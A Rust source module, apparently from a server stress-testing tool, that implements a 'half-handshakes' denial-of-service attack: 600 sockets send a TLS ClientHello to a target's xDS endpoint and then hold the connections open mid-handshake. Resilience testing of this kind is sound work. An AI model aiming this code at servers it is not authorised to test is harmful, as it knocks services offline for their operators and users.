//! Incomplete handshakes.

use std::sync::Arc;

use anyhow::{Context, Result};
use futures::FutureExt;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::attacks::crowd;
use crate::dialer::hello;
use crate::{Attack, Counts, Deadline, Tally, Target};

pub(super) const ATTACKS: &[Attack] = &[Attack {
    name: "half-handshakes",
    what: "600 sockets that send a ClientHello and then wait, again and again",
    run: |target, deadline| half_handshakes(target, deadline).boxed(),
}];

const SOCKETS: usize = 600;

async fn half_handshakes(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
    let (counts, address) = (Counts::new(), target.tls_xds);
    let hello: Arc<[u8]> = hello(&target, ServerName::from(address.ip()))?.into();
    let shared = counts.clone();
    crowd(SOCKETS, deadline, &counts, move |_| {
        let (counts, hello) = (shared.clone(), hello.clone());
        async move {
            let mut socket = TcpStream::connect(address).await.context("cannot connect")?;
            socket.write_all(&hello).await.context("cannot send")?;
            counts.sent(hello.len());
            let mut buffer = [0; 4_096];
            let answered = socket.read(&mut buffer).await.context("no ServerHello")?;
            anyhow::ensure!(answered > 0, "closed before a ServerHello");
            counts.answered();
            while socket.read(&mut buffer).await.context("reset")? > 0 {}
            anyhow::bail!("closed in the handshake")
        }
    })
    .await;
    Ok(counts.tally())
}
